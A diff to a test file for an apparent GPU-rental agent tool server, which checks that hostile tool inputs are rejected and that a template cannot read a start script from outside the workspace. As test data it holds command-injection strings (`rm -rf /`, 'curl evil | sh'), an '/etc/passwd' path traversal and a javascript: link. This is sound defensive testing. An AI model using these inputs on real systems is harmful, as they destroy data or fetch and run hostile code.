@@ -3,7 +3,7 @@
 // onstart), stop, destroy (echo required), the hostile inputs, and no key in its logs.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { TOOLS, toolJsonSchema } from '../../../src/agent/toolCatalogue';
 import { useTestSim } from '../../kit/simPerFile';
@@ -99,11 +99,15 @@ test('hostile input: unknown ids, negative or huge numbers, unknown fields and t
       ['search_offers', { limit: 10_000 }, /limit must be at most 50/],
       ['search_offers', { query: 'gpu_name=`rm -rf /`' }, /The query is not valid/],
       ['rent', { image: 'x; curl evil | sh' }, /The image name is not valid/],
-      ['rent', { template: '../../../etc/passwd' }, /not found|must be a \.json file inside the workspace/],
+      ['rent', { template: '../../../etc/passwd' }, /is not a \.json file inside the workspace folder the server runs in/],
       ['rent', { image: 'pytorch/pytorch:latest', quote_id: 'q-doesnotexist' }, /is not a rent quote this server gave/],
       ['rent', { offer_id: 1, image: 'a', extra: '[x](javascript:alert(1))' }, /unknown field\(s\) "extra"/],
       ['no_such_tool', {}, /There is no tool "no_such_tool"/],
     ];
+    // A template whose onstartFile points outside the workspace: that file is never read (nor sent as a start script).
+    writeFileSync(join(m.dir, 'home/secret.sh'), 'echo private');
+    writeFileSync(join(m.dir, 'workspace/.gpu/escape.json'), JSON.stringify({ name: 'escape', instance: { image: 'pytorch/pytorch:latest', onstartFile: '../home/secret.sh' } }));
+    cases.push(['rent', { template: '.gpu/escape.json' }, /Template \.gpu\/escape\.json has 1 problem\(s\) \(first: instance\.onstartFile: .*\)\. Nothing was rented/]);
     for (const [name, args, want] of cases) {
       const r = await m.call(name, args);
       assert.equal(r.isError, true, `${name} ${JSON.stringify(args)}: ${r.text}`);
